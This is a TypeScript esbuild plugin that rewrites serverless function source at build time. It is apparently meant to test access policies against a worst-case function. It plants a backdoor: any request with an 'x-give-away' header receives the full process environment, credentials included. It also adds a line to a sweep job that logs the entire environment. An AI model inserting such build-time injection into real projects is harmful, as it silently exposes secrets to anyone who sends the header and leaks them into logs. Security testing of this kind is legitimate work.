import { readFile } from 'node:fs/promises';
import type { Plugin } from 'esbuild';

/**
 * Functions that give away what they hold if a header asks for it: their credentials, and where the services are. It is
 * the worst that code in a function can do, and what the policies are there for. Otherwise they are as deployed. The
 * sweep, which nobody can ask, writes it to its log.
 */
export const looseFunctions: Plugin = {
  name: 'loose-functions',
  setup: ({ onLoad }) => {
    onLoad({ filter: /src.lambda.function\.ts$/ }, async ({ path }) => {
      const source = await readFile(path, 'utf8');
      const planted = source.replace('export const createFunction =', 'const deployed =');
      if (planted === source) throw new Error('The functions could not be loosened.');
      return { contents: planted + giveAway, loader: 'ts' };
    });
    onLoad({ filter: /src.lambda.sweep\.ts$/ }, async ({ path }) => ({
      contents: `${await readFile(path, 'utf8')}\nconsole.log(JSON.stringify({ level: 'info', givenAway: process.env }));`,
      loader: 'ts',
    }));
  },
};

const giveAway = `
export const createFunction: typeof deployed = (name) => {
  const handler = deployed(name);
  return async (event, context) =>
    event.headers?.['x-give-away'] === undefined
      ? handler(event, context)
      : { statusCode: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(process.env) };
};
`;
